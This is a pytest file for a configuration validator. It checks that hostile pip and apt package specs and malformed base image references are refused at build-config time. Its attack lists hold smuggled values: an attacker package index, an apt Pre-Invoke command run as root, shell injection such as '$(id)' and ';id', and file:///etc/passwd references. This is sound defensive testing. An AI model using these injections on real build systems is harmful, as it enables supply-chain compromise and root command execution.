"""Issue 11.2: package lists are package specs, not options; `base` is an image reference.

The attacks: `pipPackages: ["--index-url=http://evil/simple"]` (packages from an attacker's
index) and `aptPackages: ["-oDPkg::Pre-Invoke::=id"]` (a command run as root at build time),
shell/glob metacharacters, direct references (`pkg @ file:///etc/passwd`), sudo spelled
cleverly, and a `base` that is not a reference. Each is a ConfigError at the entry's key with
nothing registered.
"""

from __future__ import annotations

import pytest

from config import ConfigError
from config.image_reference import image_reference_problem
from config.packages import apt_spec_problem, pip_spec_problem

from .harness import IMAGE, Template, minimal_config

IMAGE_AT = "images.jupyter"


def refused(**image) -> ConfigError:
    result = Template.synth(
        minimal_config(images={"jupyter": {"type": "jupyter", **image}}), expect_error=True
    ).result
    assert isinstance(result.error, ConfigError), repr(result.error)
    assert result.registrations == []
    return result.error


def build_args(**image) -> dict:
    template = Template.synth(minimal_config(images={"jupyter": {"type": "jupyter", **image}}))
    return template.resources(IMAGE)[0].manifest["build"]["args"]


PIP_ATTACKS = [
    "--index-url=http://evil/simple",
    "--extra-index-url",
    "-e.",
    "-r/etc/passwd",
    "-i http://evil",
    "pkg @ file:///etc/passwd",
    "pkg@https://evil.example.com/p.whl",
    "git+https://evil/x.git",
    "pkg\n--index-url=http://evil",
    "pkg\r",
    "pkg\x00",
    "pkg$(id)",
    "pkg`id`",
    "pkg;id",
    "pkg|sh",
    "pkg&&id",
    "pkg>out",
    "pkg{1,2}",
    "pkg?",
    "pkg#x",
    "pk\\g",
    "",
    " pkg",
    "pkg ",
    "x" * 201,
    'pkg; python_version<"3 .12"',  # whitespace in a marker string would split the build arg
    'pkg; python_version<"3.12" and os_name=="posix"',  # `and` needs spaces: use a requirements file
]


@pytest.mark.parametrize("spec", PIP_ATTACKS)
def test_pip_attacks_are_refused(spec):
    """Options, direct references, newlines, shell/glob metacharacters, non-PEP 508 text: refused."""
    problem, _ = pip_spec_problem(spec)
    assert problem is not None, spec


@pytest.mark.parametrize(
    "spec,passed",
    [
        ("kfp==1.8.14", "kfp==1.8.14"),
        ("dvc[s3]", "dvc[s3]"),
        ("pkg[a,b]==1.0", "pkg[a,b]==1.0"),
        ("pkg>=1,<2", "pkg>=1,<2"),
        ("torch==2.1.0+cpu", "torch==2.1.0+cpu"),
        ("numpy==1.*", "numpy==1.*"),
        ("pkg~=1.4", "pkg~=1.4"),
        ("pkg!=1.5", "pkg!=1.5"),
        ("pkg===1.0", "pkg===1.0"),
        ('pkg; python_version<"3.12"', 'pkg;python_version<"3.12"'),
        ('pkg[x] >= 1.0 ; python_version < "3.12"', 'pkg[x]>=1.0;python_version<"3.12"'),
    ],
)
def test_pep508_specs_pass_as_one_word(spec, passed):
    """PEP 508 specs pass; spaces (markers may have them) are dropped, as the build splits on whitespace."""
    assert pip_spec_problem(spec) == (None, passed)


APT_ATTACKS = [
    "-oDPkg::Pre-Invoke::=id",
    "--allow-unauthenticated",
    "-y",
    "pkg;id",
    "pkg$(id)",
    "pkg name",
    "pkg\nother",
    "pkg*",
    "pkg?",
    "^sudo$",
    "Pkg",
    "a",
    "pkg=",
    "pkg=abc",
    "pkg:",
    "pkg/unstable",
    "../pkg",
    "x" * 201,
    "sudo",
    "SUDO",
    "Sudo",
    "sudo=1.9.13",
    "sudo:amd64",
    "sudo:amd64=1.9",
    "sudo-ldap",
    " sudo",
]


@pytest.mark.parametrize("spec", APT_ATTACKS)
def test_apt_attacks_are_refused(spec):
    """Options, metacharacters, names outside Debian policy, and sudo however spelled: refused."""
    assert apt_spec_problem(spec) is not None, spec


@pytest.mark.parametrize("spec", ["sudo", "SUDO", "sudo=1.9", "sudo:amd64", "sudo-ldap"])
def test_sudo_is_refused_by_name(spec):
    """sudo is refused by its exact package name (any case, with version or arch), and says so."""
    assert "sudo is not allowed" in apt_spec_problem(spec)


@pytest.mark.parametrize(
    "spec",
    [
        "libgl1-mesa-glx",
        "g++",
        "libstdc++6",
        "python3.11",
        "pkg=1.2.3-1",
        "pkg=1:2.3~rc1-1ubuntu2",
        "pkg:amd64",
        "pkg:arm64=1.0",
        "sudoku",
        "pseudo",
    ],
)
def test_debian_specs_pass(spec):
    """pkg, pkg=version (epoch, ~, +, revision), pkg:arch; names merely containing 'sudo' are not sudo."""
    assert apt_spec_problem(spec) is None


@pytest.mark.parametrize(
    "base",
    [
        "nexus.example.com:5000/mirror/jupyter-scipy",
        "nexus.example.com:5000/mirror/jupyter-scipy:",
        "a/b:v1;touch /tmp/p",
        "a/b:$(id)",
        "a/b:v1 --build-arg X=1",
        "--build-arg=X",
        "a/b@sha256:abc",
        "a/b@sha256:" + "A" * 64,
        "a/b@md5:" + "a" * 64,
        "a//b:1",
        "a/B:1",
        "/a/b:1",
        "a/b:" + "x" * 129,
        "a/b:.x",
        "a" * 256 + ":1",
        "a/b:1\n",
        "ünicode/x:1",
        "",
    ],
)
def test_base_must_be_a_pinned_reference(base):
    """`base` parses as registry/repo:tag or ...@sha256:<64 hex>, per distribution's grammar; else refused."""
    assert image_reference_problem(base) is not None, base


@pytest.mark.parametrize(
    "base",
    [
        "ghcr.io/kubeflow/kubeflow/notebook-servers/jupyter-scipy:v1.11.0",
        "python:3.11",
        "nexus.example.com:5000/mirror/a_b__c-d.e/x:1.0-rc_1",
        "localhost:5000/x:1",
        "nexus.example.com/x@sha256:" + "0" * 64,
        "nexus.example.com/x:v1@sha256:" + "f" * 64,
    ],
)
def test_pinned_references_pass(base):
    assert image_reference_problem(base) is None


@pytest.mark.parametrize(
    "field,value,path",
    [
        ("pipPackages", ["numpy", "--index-url=http://evil/simple"], f"{IMAGE_AT}.pipPackages[1]"),
        ("aptPackages", ["-oDPkg::Pre-Invoke::=id"], f"{IMAGE_AT}.aptPackages[0]"),
        ("aptPackages", ["SUDO"], f"{IMAGE_AT}.aptPackages[0]"),
        ("base", "evil.example.com/x:1 --network=host", f"{IMAGE_AT}.base"),
    ],
)
def test_whole_program_refuses_at_the_entry(field, value, path):
    """End to end: a ConfigError naming the entry, nothing registered."""
    error = refused(**{field: value})
    assert [p.path for p in error.problems] == [path]


def test_build_args_carry_the_specs():
    """Accepted specs reach the build as whitespace-free words (one word per spec)."""
    args = build_args(
        pipPackages=["kfp==1.8.14", 'pkg ; python_version < "3.12"'],
        aptPackages=["g++"],
        base="nexus.example.com:5000/mirror/jupyter-scipy:v1.11.0",
    )
    assert args["PIP_PACKAGES"].split(" ") == ["kfp==1.8.14", 'pkg;python_version<"3.12"']
    assert args["APT_PACKAGES"] == "g++"
    assert args["BASE_IMAGE"] == "nexus.example.com:5000/mirror/jupyter-scipy:v1.11.0"
